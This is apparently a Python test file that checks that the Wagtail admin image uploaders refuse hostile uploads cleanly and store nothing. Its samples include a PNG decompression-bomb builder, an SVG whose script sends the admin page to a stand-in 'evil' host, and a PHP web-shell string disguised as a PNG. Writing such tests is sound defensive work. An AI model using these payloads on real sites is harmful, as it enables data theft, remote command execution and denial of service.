"""Hostile image uploads in the Wagtail admin: a clear message, never a 500, nothing kept.

A decompression bomb (a small file that claims 400 million pixels), an image
whose name lies about its format, an SVG carrying a script, any bytes at all.
Both the single upload form and the multiple uploader are tried.
"""

import io
import json
import struct
import zlib

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image as PILImage
from wagtail.images.models import Image

SINGLE = "/admin/images/add/"
MULTIPLE = "/admin/images/multiple/add/"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb() -> bytes:
    """A few hundred bytes that unpack to 20,000 × 20,000 pixels."""
    header = struct.pack(">IIBBBBB", 20_000, 20_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 20_000 // 8) * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def real_png() -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (40, 30), "#1f5f8b").save(buffer, "PNG")
    return buffer.getvalue()


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>
<rect width="10" height="10"/></svg>"""


def nothing_kept() -> bool:
    """No image row and no file of ours (named "naidigs-...") among the originals."""
    folder = django_settings.MEDIA_ROOT / "original_images"
    return not Image.objects.exists() and not list(folder.glob("naidigs*"))


def upload(client, url: str, name: str, content: bytes):
    data = {"title": "Bilde", "collection": 1}
    field = "files[]" if url == MULTIPLE else "file"
    data[field] = SimpleUploadedFile(name, content)
    return client.post(url, data, HTTP_X_REQUESTED_WITH="XMLHttpRequest" if url == MULTIPLE else "")


def refusal(response, url: str) -> str:
    """The message shown to the editor."""
    assert response.status_code in (200, 400), response.status_code
    if url == MULTIPLE:
        answer = json.loads(response.content)
        assert answer["success"] is False
        return answer.get("error_message", "") + json.dumps(answer.get("form", ""))
    return response.content.decode()


@pytest.fixture
def editor(admin_client, db):
    return admin_client


@pytest.mark.django_db
@pytest.mark.parametrize("url", [SINGLE, MULTIPLE])
class TestHostileFiles:
    def test_decompression_bomb(self, editor, url):
        message = refusal(upload(editor, url, "naidigs-bumba.png", bomb()), url)
        assert "valid image" in message or "pixels" in message, message[:500]
        assert nothing_kept()

    def test_png_named_jpeg(self, editor, url):
        message = refusal(upload(editor, url, "naidigs-foto.jpg", real_png()), url)
        assert "does not match the file format" in message, message[:500]
        assert nothing_kept()

    def test_text_named_png(self, editor, url):
        refusal(upload(editor, url, "naidigs-foto.png", b"<?php system($_GET['c']); ?>"), url)
        assert nothing_kept()

    def test_svg_with_a_script(self, editor, url):
        message = refusal(upload(editor, url, "naidigs-logo.svg", SVG), url)
        assert "formāts nav atbalstīts" in message, message[:500]  # the admin speaks Latvian
        assert nothing_kept()


@pytest.mark.django_db
@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    content=st.binary(max_size=4000),
    name=st.sampled_from(
        ["a.png", "a.jpg", "a.gif", "a.webp", "a.avif", "a", "a.svg", "a.png.exe"]
    ),
)
def test_any_bytes_with_any_name(editor, content, name):
    response = upload(editor, SINGLE, name, content)
    assert response.status_code == 200
    assert nothing_kept()


def test_a_real_picture_is_still_accepted(editor):
    response = upload(editor, SINGLE, "foto.png", real_png())
    assert response.status_code == 302
    assert Image.objects.count() == 1
    Image.objects.get().file.delete(save=False)  # the file too, not only the row
